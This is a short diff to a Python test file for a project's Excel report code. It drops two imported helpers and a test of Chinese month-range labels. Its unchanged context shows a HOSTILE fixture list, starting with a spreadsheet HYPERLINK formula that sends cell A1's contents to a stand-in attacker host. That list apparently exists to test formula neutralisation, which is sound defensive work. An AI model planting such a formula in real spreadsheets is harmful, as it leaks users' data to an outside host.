@@ -8,7 +8,7 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from jxtrack.reports.excel import put
-from jxtrack.reports.text import clean, neutralise, num, period_label, period_title, pp
+from jxtrack.reports.text import clean, neutralise, num, pp
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -72,13 +72,6 @@ def test_numbers_stay_numbers():
 
 def test_clean_removes_what_xml_cannot_hold():
     assert clean("a\x00b\x1fc\td\ne") == "abc\td\ne"
-
-
-def test_period_labels():
-    assert period_label("2026-01") == "1月"
-    assert period_label("2026-02") == "1-2月"
-    assert period_label("2026-10") == "1-10月"
-    assert period_title("2026-12") == "2026年1-12月"
 
 
 def test_number_formats():
